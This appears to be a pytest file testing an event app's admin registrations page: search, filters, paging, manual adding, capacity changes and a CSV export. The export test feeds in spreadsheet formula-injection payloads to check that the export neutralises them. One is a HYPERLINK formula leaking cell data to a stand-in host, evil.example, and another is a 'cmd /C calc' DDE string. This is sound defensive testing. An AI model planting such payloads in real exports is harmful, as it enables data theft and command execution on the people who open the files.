"""An event's registrations page over HTTP, as an editor: counts, search, filters, pages,
adding by hand, the capacity and the CSV export. (Anonymous visitors and the CSRF token are
covered for every route by the walks in test_guards.py and tests/web/test_csrf.py.)"""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta

import pytest
from starlette.testclient import TestClient

from events_app.admin import registration_views
from events_app.db import Database
from events_app.models import Event, User
from events_app.registration.notify import Notifier
from tests.admin.web_helpers import post_form, sign_in
from tests.factories import make_event, make_user
from tests.registration.helpers import confirm, outbox, register, statuses
from tests.support.audit import audit_entries
from tests.support.error_summary import assert_error_summary

PAGE = "/admin/events/talk/registrations"


@pytest.fixture
def editor(client: TestClient, db: Database, now: datetime) -> User:
    user = make_user(db, now, role="editor", email="ed@example.org")
    sign_in(client, user)
    return user


@pytest.fixture
def event(db: Database, now: datetime) -> Event:
    return make_event(db, now, slug="talk", title="The Talk", capacity=2)


def seat(db: Database, now: datetime, notifier: Notifier, event: Event, email: str, **kw: str):  # type: ignore[no-untyped-def]
    _registration, token = register(db, now, notifier, event.id, email, **kw)  # type: ignore[arg-type]
    return confirm(db, now, notifier, token)


def test_counts_seats_and_the_list(
    client: TestClient, editor: User, event: Event, db: Database, now: datetime, notifier: Notifier
) -> None:
    seat(db, now, notifier, event, "a@example.org", name="Ada Lovelace")
    seat(db, now, notifier, event, "b@example.org", name="Blaise Pascal")
    seat(db, now, notifier, event, "c@example.org", name="Charles Babbage")
    page = client.get(PAGE)
    assert page.status_code == 200
    assert page.headers["cache-control"] == "no-store"
    text = page.text
    assert "Ada Lovelace" in text
    assert "Charles Babbage" in text
    assert '<dt>Confirmed</dt><dd translate="no">2</dd>' in text
    assert '<dt>Waitlisted</dt><dd translate="no">1</dd>' in text
    assert "<dt>Seats left</dt><dd>0 of 2</dd>" in text
    assert "number 1 in line" in text
    assert "3 registrations" in text


def test_search_and_status_filter(
    client: TestClient, editor: User, event: Event, db: Database, now: datetime, notifier: Notifier
) -> None:
    seat(db, now, notifier, event, "a@example.org", name="Ada Lovelace")
    register(db, now, notifier, event.id, "b@example.org", name="Blaise Pascal")  # type: ignore[arg-type]
    assert "Blaise" not in client.get(PAGE, params={"q": "LOVE"}).text
    assert "Ada Lovelace" in client.get(PAGE, params={"q": "a@example"}).text
    pending = client.get(PAGE, params={"status": "pending"}).text
    assert "Blaise Pascal" in pending
    assert "Ada Lovelace" not in pending
    nobody = client.get(PAGE, params={"q": "zzz"})
    assert nobody.status_code == 200
    assert "No registrations match these filters." in nobody.text
    assert client.get(PAGE, params={"q": "\x00<b>" * 200}).status_code == 200
    odd = client.get(PAGE, params={"status": "bogus"})
    assert odd.status_code == 200
    assert "Choose one of the listed options." in odd.text
    assert "Ada Lovelace" in odd.text  # an unreadable status filters nothing


def test_pages_of_registrations(
    client: TestClient,
    editor: User,
    event: Event,
    db: Database,
    now: datetime,
    notifier: Notifier,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(registration_views, "PAGE_SIZE", 2)
    for number in range(5):
        register(db, now, notifier, event.id, f"p{number}@example.org", name=f"Person {number}")  # type: ignore[arg-type]
    first = client.get(PAGE, params={"status": "pending"}).text
    assert "Person 1" in first
    assert "Person 2" not in first
    assert 'href="/admin/events/talk/registrations?status=pending&amp;page=2"' in first
    third = client.get(PAGE, params={"status": "pending", "page": "3"}).text
    assert "Person 4" in third
    assert "Page 3 of 3" in third


def test_an_unknown_event_is_404(client: TestClient, editor: User) -> None:
    assert client.get("/admin/events/nope/registrations").status_code == 404
    assert client.get("/admin/events/nope/registrations.csv").status_code == 404


def test_adding_someone_by_hand(
    client: TestClient, editor: User, event: Event, db: Database
) -> None:
    response = post_form(
        client, PAGE, f"{PAGE}/add", name="Grace Hopper", email="grace@example.org",
        organisation="Navy",
    )  # fmt: skip
    assert response.status_code == 303
    assert response.headers["location"].endswith("?done=added")
    assert statuses(db, event.id) == {"grace@example.org": "confirmed"}  # type: ignore[arg-type]
    [email] = outbox(db)
    assert (email.kind, email.to_address) == ("confirmed", "grace@example.org")
    assert "/r/" in email.text_body
    assert [e.action for e in audit_entries(db)][-1] == "registration.add"
    page = client.get(response.headers["location"])
    assert "The registration has been added" in page.text


def test_bad_input_comes_back_with_the_input_kept(
    client: TestClient, editor: User, event: Event, db: Database
) -> None:
    response = post_form(client, PAGE, f"{PAGE}/add", name="", email="not-an-address")
    assert response.status_code == 400
    assert 'value="not-an-address"' in response.text
    assert 'id="add-name-error"' in response.text
    assert_error_summary(response.text, ["add-name", "add-email"])
    assert "Please enter a valid email address" in response.text
    assert outbox(db) == []


def test_an_address_already_registered_is_refused_beside_the_field(
    client: TestClient, editor: User, event: Event, db: Database, now: datetime, notifier: Notifier
) -> None:
    seat(db, now, notifier, event, "grace@example.org")
    sent = len(outbox(db))
    response = post_form(client, PAGE, f"{PAGE}/add", name="G", email="Grace@Example.org")
    assert response.status_code == 409
    assert "This address is already registered for this event." in response.text
    assert 'aria-describedby="add-email-error"' in response.text
    assert len(outbox(db)) == sent


def test_nobody_is_added_to_a_cancelled_event(
    client: TestClient, editor: User, db: Database, now: datetime
) -> None:
    make_event(db, now, slug="talk", status="cancelled")
    response = post_form(client, PAGE, f"{PAGE}/add", name="G", email="g@example.org")
    assert response.status_code == 409
    assert "This event is cancelled: nobody can be added." in response.text


def test_a_larger_capacity_seats_the_waitlist_at_once(
    client: TestClient, editor: User, event: Event, db: Database, now: datetime, notifier: Notifier
) -> None:
    for email in ("a@example.org", "b@example.org", "c@example.org", "d@example.org"):
        seat(db, now, notifier, event, email)
    response = post_form(client, PAGE, "/admin/events/talk/capacity", capacity="3")
    assert response.status_code == 303
    page = client.get(response.headers["location"]).text
    assert "1 person moved up from the waitlist." in page
    assert statuses(db, event.id)["c@example.org"] == "confirmed"  # type: ignore[arg-type]
    response = post_form(client, PAGE, "/admin/events/talk/capacity", capacity="")
    assert statuses(db, event.id)["d@example.org"] == "confirmed"  # type: ignore[arg-type]
    assert "<dt>Seats left</dt><dd>No limit</dd>" in client.get(PAGE).text


@pytest.mark.parametrize("raw", ["abc", "-1", "1.5", "1000001", "9" * 30])
def test_a_capacity_that_is_not_a_number_of_seats_is_refused(
    client: TestClient, editor: User, event: Event, db: Database, raw: str
) -> None:
    response = post_form(client, PAGE, "/admin/events/talk/capacity", capacity=raw)
    assert response.status_code == 400
    assert "Enter a whole number of seats" in response.text
    assert f'value="{raw}"' in response.text
    with db.read() as session:
        assert session.get(Event, event.id).capacity == 2  # type: ignore[union-attr]


HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def test_the_csv_export_is_excel_ready_and_defused(
    client: TestClient, editor: User, event: Event, db: Database, now: datetime, notifier: Notifier
) -> None:
    seat(db, now, notifier, event, "a@example.org", name=HOSTILE)
    register(db, now, notifier, event.id, "b@example.org", name="@SUM(1+1)*cmd|' /C calc'!A0")  # type: ignore[arg-type]
    register(db, now, notifier, event.id, "c@example.org", name="Zoë +Ünal")  # type: ignore[arg-type]
    response = client.get(f"{PAGE}.csv")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == (
        'attachment; filename="talk-registrations.csv"'
    )
    assert response.headers["cache-control"] == "no-store"
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == [
        "Name", "Email address", "Organisation", "Status", "Registered at (UTC)",
        "Confirmed at (UTC)", "Attended", "Guests",
    ]  # fmt: skip
    assert rows[1][0] == "'" + HOSTILE
    assert rows[1][3:] == ["confirmed", "2026-12-01 09:00", "2026-12-01 09:00", "no", "0"]
    assert rows[2][0].startswith("'@SUM")
    assert rows[3][0] == "Zoë +Ünal"  # not at the start: harmless, left alone
    only_pending = client.get(f"{PAGE}.csv", params={"status": "pending"}).content
    assert len(list(csv.reader(io.StringIO(only_pending.decode("utf-8-sig"))))) == 3


def test_the_page_links_to_messages_and_export_with_the_filters(
    client: TestClient, editor: User, event: Event
) -> None:
    text = client.get(PAGE, params={"q": "ada"}).text
    assert 'href="/admin/events/talk/message"' in text
    assert 'href="/admin/events/talk/registrations.csv?q=ada"' in text
    assert "a reminder 24 hours before the start" in text


def test_a_shift_of_days_is_shown_in_the_site_timezone(
    client: TestClient, editor: User, event: Event, db: Database, now: datetime, notifier: Notifier
) -> None:
    client.app.state.context.settings.timezone = "Asia/Shanghai"  # type: ignore[attr-defined]
    seat(db, now + timedelta(hours=16), notifier, event, "a@example.org")
    rows = client.get(f"{PAGE}.csv").content.decode("utf-8-sig").splitlines()
    assert "Registered at (Asia/Shanghai)" in rows[0]
    assert "2026-12-02 09:00" in rows[1]  # 01:00 UTC the next day is 09:00 in Shanghai
